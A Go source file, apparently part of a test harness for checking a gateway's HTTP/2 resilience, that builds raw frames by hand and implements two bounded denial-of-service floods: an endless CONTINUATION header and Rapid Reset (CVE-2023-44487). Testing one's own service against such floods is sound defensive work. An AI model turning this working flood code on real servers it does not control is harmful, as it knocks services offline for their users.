package abuse

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"time"
)

// Frames of HTTP/2 (RFC 9113, section 6).
const (
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	frameContinuation = 0x9

	endStream  = 0x1
	endHeaders = 0x4

	cancelled = 0x8
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frame encodes a frame.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	out := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(out, stream), payload...)
}

// field encodes a header field as a literal without indexing (RFC 7541, section 6.2.2). Both texts are shorter
// than 127 bytes.
func field(name, value string) []byte {
	out := append([]byte{0, byte(len(name))}, name...)
	return append(append(out, byte(len(value))), value...)
}

// requestFields encodes the header of a request.
func requestFields(t Target) []byte {
	var out []byte
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/sessions"}, {":authority", t.Address}, {"authorization", "Bearer " + t.Key}} {
		out = append(out, field(f[0], f[1])...)
	}
	return out
}

// open begins a connection of HTTP/2.
func open(conn net.Conn) error {
	_, err := conn.Write(append([]byte(preface), frame(frameSettings, 0, 0, nil)...))
	return err
}

// ended reads the connection until the gateway ends it.
func ended(conn net.Conn) <-chan bool {
	end := make(chan bool, 1) // of the only reader
	go func() {
		_, err := io.Copy(io.Discard, conn)
		end <- err == nil || isCut(err)
	}()
	return end
}

// maxContinuations bounds the frames of a header without end: 40 MB.
const maxContinuations = 10_000

// continuations sends a header that does not end.
func continuations(ctx context.Context, t Target, conn net.Conn) bool {
	if open(conn) != nil {
		return true
	}
	end := ended(conn)
	more := []byte(strings.Repeat(string(field("x-more", strings.Repeat("v", 100))), 40))
	send := frame(frameHeaders, 0, 1, requestFields(t))
	for i := 0; i < maxContinuations && ctx.Err() == nil; i++ {
		if _, err := conn.Write(send); err != nil {
			return isCut(err) || <-end
		}
		send = frame(frameContinuation, 0, 1, more)
	}
	return waitEnd(ctx, end)
}

// resets is how many requests a connection begins and cancels, in bursts.
const (
	resets      = 20_000
	resetsBurst = 100
)

// rapidResets cancels each request at once (CVE-2023-44487).
func rapidResets(ctx context.Context, t Target, conn net.Conn) bool {
	if open(conn) != nil {
		return true
	}
	end := ended(conn)
	fields, reset := requestFields(t), binary.BigEndian.AppendUint32(nil, cancelled)
	var burst []byte
	for i := uint32(0); i < resets && ctx.Err() == nil; i++ {
		burst = append(burst, frame(frameHeaders, endStream|endHeaders, 2*i+1, fields)...)
		burst = append(burst, frame(frameReset, 0, 2*i+1, reset)...)
		if i%resetsBurst != 0 {
			continue
		}
		if _, err := conn.Write(burst); err != nil {
			return isCut(err) || <-end
		}
		burst = burst[:0]
	}
	_ = conn.SetReadDeadline(time.Now().Add(time.Second)) // a gateway that bears the resets keeps the connection
	return waitEnd(ctx, end)
}

func waitEnd(ctx context.Context, end <-chan bool) bool {
	select {
	case cut := <-end:
		return cut
	case <-ctx.Done():
		return false
	}
}
